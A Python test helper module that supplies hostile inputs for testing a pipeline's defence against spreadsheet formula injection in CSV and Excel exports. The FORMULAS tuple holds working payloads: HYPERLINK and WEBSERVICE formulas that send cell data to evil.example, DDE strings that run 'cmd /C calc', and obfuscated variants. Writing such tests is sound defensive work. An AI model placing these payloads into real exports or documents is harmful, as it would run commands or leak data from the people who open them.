"""Shared hostile inputs and a tiny published warehouse for the attack suite (no fixtures here, so
the test modules of other authors in this folder are not affected)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import duckdb

from pipelines.warehouse import publish

# Text a department or a console user controls, each of which a spreadsheet would run as a formula
# (or DDE) if written naively.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&B3,"点此核对")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0+1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=WEBSERVICE("http://evil.example/"&A1)',
)
# Text that must come back exactly as it went in.
CLEAN = ("县环境保护局", "建成区绿化覆盖率", "a=b", "1+1", "—", "-", "-5", "+3.5", "-12%", "1,234.5", "#N/A")

# Checks independent of pipelines.safe_output (the code under test).
_TRIGGERS = set("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")
_BLANKS = " \u00a0\u3000\ufeff\u200b\x0b\x0c"


def dangerous_csv_cell(text: str) -> bool:
    """A CSV cell a spreadsheet may run: starts (after blanks) with a trigger and is not a number."""
    s = text.lstrip(_BLANKS)
    if not s or s[0] not in _TRIGGERS or s in ("-", "+"):
        return False
    try:
        float(s.rstrip("%").replace(",", ""))
        return False
    except ValueError:
        return True


def csv_cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def formula_cells(data: bytes) -> list[tuple[str, str, object]]:
    """(sheet, cell, value) of every formula cell, as openpyxl reads the workbook."""
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def xml_formulas(data: bytes) -> list[str]:
    """Worksheet members holding a <f> element (a formula), read from the archive itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            n
            for n in z.namelist()
            if n.startswith("xl/worksheets/") and (b"<f>" in z.read(n) or b"<f " in z.read(n))
        ]


def cell_texts(data: bytes) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    ]


def publish_tiny(warehouse_path: Path, published_dir: Path) -> Path:
    """A small warehouse with hostile text, published; returns the snapshot path."""
    warehouse_path.parent.mkdir(parents=True, exist_ok=True)
    conn = duckdb.connect(str(warehouse_path))
    try:
        conn.execute("CREATE SCHEMA dim")
        conn.execute("CREATE TABLE dim.county (county_code VARCHAR, name_zh VARCHAR, score DOUBLE)")
        rows = [("c1", "平昌县", -5.0), ("c2", FORMULAS[0], 3.5)]
        rows += [(f"x{i}", t, float(i)) for i, t in enumerate(FORMULAS[1:])]
        conn.executemany("INSERT INTO dim.county VALUES (?, ?, ?)", rows)
    finally:
        conn.close()
    return publish.publish(warehouse_path, published_dir)
